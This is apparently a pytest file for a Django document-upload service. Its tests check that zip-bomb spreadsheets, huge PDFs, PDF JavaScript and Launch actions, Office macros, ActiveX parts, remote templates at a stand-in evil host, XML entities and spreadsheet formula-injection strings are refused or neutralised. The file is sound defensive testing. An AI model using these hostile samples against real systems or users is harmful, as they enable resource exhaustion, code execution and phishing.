"""Hostile input (issue 10): files that cost a naive parser minutes or gigabytes, active content,
formula injection. Each is refused with a message that names the limit or what was found.

The worker-killing files are sent to a real gunicorn (2 workers, 30 s timeout, DEBUG off): the
test measures the wall time of the refusal and checks that the same worker processes are
still there afterwards (a killed worker would be replaced under a new pid).
"""

import functools
import io
import json
import os
import time
import uuid
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from meetings import samples
from meetings.models import Document
from secretariat import filecheck
from tests import hostile_files as hostile
from tests.factories import TEST_PASSWORD
from tests.nginx import Gunicorn, request_from
from tests.workgroups.factories import MilestoneFactory
from workgroups.bulk import BULK_LIMITS

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# --- The files ---------------------------------------------------------------------------------


def _bulk_workbook(client, code="CPTFWG") -> bytes:
    response = client.get(reverse("workgroups:bulk_download", args=[code]))
    assert response.status_code == 200
    return response.content


@functools.cache
def forty_million_cells(padding: int = 0) -> bytes:
    """A workbook whose row 2 holds 40 million cells. ``padding`` adds incompressible bytes,
    so that the compression ratio looks like a real file's and only the cell count is left."""
    package = hostile.xlsx_with_huge_row(samples.make_xlsx())
    if padding:
        parts = hostile.workbook_parts(package)
        buffer = io.BytesIO(package)
        with zipfile.ZipFile(buffer, "a", zipfile.ZIP_STORED) as archive:
            archive.writestr("xl/media/image1.png", os.urandom(padding))
        assert "xl/media/image1.png" not in parts
        package = buffer.getvalue()
    return package


@functools.cache
def hundred_thousand_pages() -> bytes:
    return hostile.pdf_with_pages(100_000)


def _inspect_pdf(data: bytes):
    return filecheck.inspect_pdf(ContentFile(data))


def _inspect_ooxml(data: bytes, limits=filecheck.ZipLimits()):  # noqa: B008
    return filecheck.inspect_ooxml(ContentFile(data), size=len(data), limits=limits)


# --- Limits, in-process ------------------------------------------------------------------------


def test_a_compressed_forty_million_cell_sheet_is_a_zip_bomb():
    with pytest.raises(ValidationError) as refusal:
        _inspect_ooxml(forty_million_cells())
    assert refusal.value.code == "zip_bomb"
    assert "over the limit of" in refusal.value.messages[0]


def test_a_padded_forty_million_cell_sheet_is_refused_by_its_cell_count():
    data = forty_million_cells(padding=1_500_000)
    with pytest.raises(ValidationError) as refusal:
        _inspect_ooxml(data)
    assert refusal.value.code == "too_many_cells"
    assert "more than 1,000,000 cells" in refusal.value.messages[0]
    with pytest.raises(ValidationError) as refusal:
        _inspect_ooxml(data, BULK_LIMITS)
    assert refusal.value.code == "zip_bomb"  # the bulk workbook has a tighter expanded size


def test_a_declared_dimension_over_the_limit_is_refused_before_counting():
    parts = hostile.workbook_parts(samples.make_xlsx())
    sheet = parts["xl/worksheets/sheet1.xml"]
    start = sheet.index(b"<dimension")
    end = sheet.index(b"/>", start) + 2
    parts["xl/worksheets/sheet1.xml"] = (
        sheet[:start] + b'<dimension ref="A1:Z9999999"/>' + sheet[end:])
    with pytest.raises(ValidationError) as refusal:
        _inspect_ooxml(hostile.zip_of(parts))
    assert refusal.value.code == "too_many_cells"


def test_a_hundred_thousand_page_pdf_is_refused_from_its_page_count():
    with pytest.raises(ValidationError) as refusal:
        _inspect_pdf(hundred_thousand_pages())
    assert refusal.value.messages == ["The PDF has 100,000 pages; the limit is 2,000."]


def test_a_page_tree_that_lies_about_its_count_is_refused_by_the_bounded_walk():
    with pytest.raises(ValidationError) as refusal:
        _inspect_pdf(hostile.pdf_with_pages(5000, declared_count=1))
    assert refusal.value.code == "too_many_pages"


def test_a_pdf_within_the_limits_passes_and_reports_its_pages():
    assert _inspect_pdf(hostile.pdf_with_pages(30)) == 30
    assert _inspect_pdf(samples.make_pdf("Minutes", ["Item 1"])) == 1


# --- Active content ----------------------------------------------------------------------------

JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PDF_ACTIVE = {
    "open-action-javascript": {"catalog_extra": b"/OpenAction {EXTRA} 0 R",
                                   "extra_objects": [JS_ACTION]},
    # Name written with a #xx escape: a byte search for "/JavaScript" would miss it.
    "open-action-escaped-name": {
        "catalog_extra": b"/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>"},
    "launch-action": {"catalog_extra": b"/OpenAction << /S /Launch /F (cmd.exe) >>"},
    "document-javascript": {"catalog_extra": b"/Names << /JavaScript << /Names [] >> >>"},
    "embedded-files": {"catalog_extra": b"/Names << /EmbeddedFiles << /Names [] >> >>"},
    "page-open-action": {"page_extra": b"/AA << /O << /S /JavaScript /JS (x) >> >>"},
    "link-launches": {"page_extra": b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
                                     b" /A << /S /Launch /F (evil.exe) >> >>]"},
    "file-attachment": {"page_extra": b"/Annots [<< /Type /Annot /Subtype /FileAttachment "
                                       b"/Rect [0 0 9 9] /FS (evil.exe) >>]"},
    "chained-javascript": {"catalog_extra": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] "
                                             b"/Next << /S /JavaScript /JS (x) >> >>"},
}


@pytest.mark.parametrize("case", list(PDF_ACTIVE))
def test_pdf_active_content_is_refused_naming_what_was_found(case):
    data = hostile.pdf_with_pages(2, **PDF_ACTIVE[case])
    with pytest.raises(ValidationError) as refusal:
        _inspect_pdf(data)
    assert refusal.value.code == "pdf_active_content", refusal.value
    message = refusal.value.messages[0]
    assert any(word in message for word in ("JavaScript", "launch", "embedded")), message


def _docx_parts():
    return hostile.workbook_parts(samples.make_docx("Minutes"))


def _content_types_with(old: bytes, new: bytes) -> bytes:
    parts = _docx_parts()
    types = parts["[Content_Types].xml"]
    assert old in types
    parts["[Content_Types].xml"] = types.replace(old, new)
    return hostile.zip_of(parts)


MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OOXML_ACTIVE = {
    # "macroEnabled" written with XML character references: &#x6D; is "m".
    "macro-type-by-character-references": lambda: _content_types_with(
        MAIN, b"application/vnd.ms-word.document.&#x6D;&#x61;croEnabled.main+xml"),
    "macro-type-in-upper-case": lambda: _content_types_with(
        MAIN, b"APPLICATION/VND.MS-WORD.DOCUMENT.MACROENABLED.MAIN+XML"),
    "vba-project-part-upper-case": lambda: hostile.zip_of(
        {**_docx_parts(), "word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"}),
    "activex-control": lambda: hostile.zip_of(
        {**_docx_parts(), "word/activeX/activeX1.xml": b"<ax:ocx/>"}),
    "remote-attached-template": lambda: hostile.zip_of({
        **_docx_parts(),
        "word/_rels/settings.xml.rels": (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'),
    }),
    "entity-expansion": lambda: _content_types_with(
        b"<Types", b'<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">]><Types'),
}


@pytest.mark.parametrize("case", list(OOXML_ACTIVE))
def test_ooxml_active_content_is_refused(case, api_upload_as):
    data = OOXML_ACTIVE[case]()
    with pytest.raises(ValidationError) as refusal:
        _inspect_ooxml(data)
    assert refusal.value.code in {"macros", "activex", "external_relationship", "xml_entities"}
    response = api_upload_as("minutes.docx", data)
    assert response.status_code == 400
    assert response.json()["file"] == refusal.value.messages
    assert Document.objects.count() == 0


def test_a_hyperlink_is_not_active_content():
    parts = _docx_parts()
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/hyperlink" Target="https://asean.org/" TargetMode="External"/>'
        b"</Relationships>")
    assert _inspect_ooxml(hostile.zip_of(parts)) == "docx"


@pytest.fixture
def api_upload_as(client_for, secretariat):
    from tests.meetings.factories import MeetingFactory

    meeting = MeetingFactory()
    client = client_for(secretariat)

    def upload(name, content):
        return client.post("/api/v1/documents/", {
            "meeting": meeting.pk, "title": "A paper", "kind": "agenda",
            "access_level": "members", "file": SimpleUploadedFile(name, content)})

    return upload


# --- The bulk workbook -------------------------------------------------------------------------


def _upload_bulk(client, data: bytes):
    return client.post(reverse("workgroups:bulk_upload", args=["CPTFWG"]), {
        "file": SimpleUploadedFile("m.xlsx", data, content_type=XLSX), "comment": "Update"})


def test_a_truncated_sheet_in_the_bulk_workbook_is_a_400(client_for, chair):
    MilestoneFactory(code="A")
    client = client_for(chair)
    parts = hostile.workbook_parts(_bulk_workbook(client))
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet[: len(sheet) * 2 // 3]
    response = _upload_bulk(client, hostile.zip_of(parts))
    assert response.status_code == 400
    assert response.context["preview"].file_errors == [
        "This is not an XLSX file downloaded from this page."]


def test_a_macro_workbook_is_refused_by_the_bulk_update(client_for, chair):
    MilestoneFactory(code="A")
    client = client_for(chair)
    data = hostile.replace_parts(_bulk_workbook(client), {"xl/vbaProject.bin": b"\xd0\xcf"})
    response = _upload_bulk(client, data)
    assert response.status_code == 400
    assert "macros" in response.context["preview"].file_errors[0]


# --- Formula injection -------------------------------------------------------------------------

HOSTILE_TITLES = ['=HYPERLINK("https://evil.example","Click")', "+1+1", "-2+3", "@SUM(A1)",
                  "\t=1+1", "\r=1+1", "\n=1+1"]


@pytest.fixture
def injected(db):
    return [MilestoneFactory(code=f"X{i}", title=title)
            for i, title in enumerate(HOSTILE_TITLES)]


def test_csv_export_neutralises_every_formula_trigger(injected, client):
    import csv

    response = client.get(reverse("workgroups:export_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    titles = {row[0]: row[1] for row in rows[1:]}
    for i, title in enumerate(HOSTILE_TITLES):
        assert titles[f"X{i}"] == "'" + title


def _string_cells(data: bytes, sheet_name: str) -> dict:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook[sheet_name]
    return {(c.row, c.column): (c.value, c.data_type) for row in sheet.iter_rows() for c in row}


def test_xlsx_export_writes_user_text_as_text(injected, client):
    response = client.get(reverse("workgroups:export_xlsx"))
    cells = _string_cells(response.content, "Milestones")
    written = {v for v, t in cells.values() if v in HOSTILE_TITLES and t == "s"}
    assert written == set(HOSTILE_TITLES)
    assert all(t != "f" for _, t in cells.values())


def test_bulk_round_trip_workbook_writes_user_text_as_text(injected, client_for, chair):
    data = _bulk_workbook(client_for(chair))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    cells = _string_cells(data, "Milestones")
    written = {v for v, t in cells.values() if v in HOSTILE_TITLES and t == "s"}
    assert written == set(HOSTILE_TITLES)


# --- Under gunicorn: refused fast, worker alive -------------------------------------------------


def _token(app, user) -> str:
    """A token for ``user``, who must use a second factor: enrol a device and send its code,
    as an integrator with an authenticator would."""
    from django_otp.plugins.otp_totp.models import TOTPDevice

    from tests.mfa import code_for

    TOTPDevice.objects.create(user=user, name="app", confirmed=True)
    response = request_from("127.0.0.1", app.url + "/api/v1/auth/token/", method="POST",
                            headers={"Content-Type": "application/json"},
                            body=json.dumps({"username": user.username,
                                             "password": TEST_PASSWORD, "otp": code_for(user)}))
    assert response.status == 200, response.body
    return json.loads(response.body)["token"]


def _multipart(fields: dict, files: dict) -> tuple[str, bytes]:
    boundary = uuid.uuid4().hex
    out = io.BytesIO()
    for name, value in fields.items():
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
                  f"{value}\r\n".encode())
    for name, (filename, data) in files.items():
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
                  f'filename="{filename}"\r\nContent-Type: application/octet-stream\r\n\r\n'
                  .encode())
        out.write(data + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return f"multipart/form-data; boundary={boundary}", out.getvalue()


def _timed(app, *args, **kwargs):
    before = app.worker_pids()
    started = time.monotonic()
    response = request_from("127.0.0.1", *args, **kwargs)
    elapsed = time.monotonic() - started
    assert app.worker_pids() == before, app.log_text()
    return response, elapsed


@pytest.fixture
def app(transactional_db, settings):
    with Gunicorn(env={"MEDIA_ROOT": str(settings.MEDIA_ROOT)}, workers=2, timeout=30) as app:
        yield app


def _session(app, username) -> dict:
    """Log in through the login page of ``app``; the cookies and CSRF token of the session."""
    from tests.mfa import login_through_pages

    return login_through_pages(app.url, username, TEST_PASSWORD)


def test_under_gunicorn_the_hostile_files_are_refused_fast_and_the_workers_live(
    app, secretariat, chair
):
    from tests.meetings.factories import MeetingFactory

    meeting = MeetingFactory()
    MilestoneFactory(code="A")
    token = _token(app, secretariat)
    fields = {"meeting": meeting.pk, "title": "Hostile", "kind": "agenda",
              "access_level": "members"}
    for name, data, message in [
        ("pages.pdf", hundred_thousand_pages(), "The PDF has 100,000 pages; the limit is 2,000."),
        ("cells.xlsx", forty_million_cells(padding=1_500_000), "more than 1,000,000 cells"),
        ("cells.xlsx", forty_million_cells(), "a zip bomb?"),
    ]:
        content_type, body = _multipart(fields, {"file": (name, data)})
        response, elapsed = _timed(
            app, app.url + "/api/v1/documents/", method="POST", body=body,
            headers={"Content-Type": content_type, "Authorization": f"Token {token}"})
        assert response.status == 400, response.body[:300]
        assert message in json.loads(response.body)["file"][0]
        assert elapsed < 5, (name, elapsed)
        print(f"API refused {name} ({len(data):,} bytes) in {elapsed:.2f} s")

    session = _session(app, chair.username)
    for data in (forty_million_cells(), forty_million_cells(padding=1_500_000)):
        content_type, body = _multipart(
            {"comment": "Update", "csrfmiddlewaretoken": session["csrf"]},
            {"file": ("m.xlsx", data)})
        response, elapsed = _timed(
            app, app.url + "/bodies/CPTFWG/bulk-update/", method="POST", body=body,
            headers={"Content-Type": content_type, "Cookie": session["cookie"],
                     "Referer": app.url + "/"})
        assert response.status == 400, response.body[:300]
        assert b"zip bomb" in response.body or b"cells" in response.body
        assert elapsed < 5, elapsed
        print(f"bulk update refused {len(data):,} bytes in {elapsed:.2f} s")
    assert Document.objects.count() == 0
